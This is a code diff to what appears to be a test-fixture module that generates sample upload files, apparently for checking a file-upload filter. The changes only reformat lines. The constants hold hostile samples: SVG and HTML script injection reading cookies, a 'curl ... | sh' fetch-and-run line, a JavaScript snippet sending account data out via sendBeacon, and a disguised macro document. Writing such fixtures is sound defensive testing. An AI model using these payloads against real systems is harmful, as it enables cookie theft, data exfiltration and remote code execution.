@@ -43,7 +43,8 @@ def big_photo(megabytes: float = 5.0) -> bytes:
 
     width, height = 4032, 3024
     noise = Image.frombytes("L", (width // 4, height // 4), os.urandom(width * height // 16)).resize((width, height))
-    image = Image.merge("RGB", (noise, noise.rotate(90, expand=False), noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT)))
+    mirrored = noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT)
+    image = Image.merge("RGB", (noise, noise.rotate(90, expand=False), mirrored))
     for quality in (95, 90, 80, 70):
         out = io.BytesIO()
         image.save(out, "JPEG", quality=quality)
@@ -121,7 +122,8 @@ def docm_renamed_docx() -> bytes:
                  "word/vbaProject.bin": "macro", "_rels/.rels": "<Relationships/>"})
 
 
-SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
+SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+       b'<rect width="9" height="9"/></svg>')
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
 JAVASCRIPT = b"fetch('/accounts/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));\n"
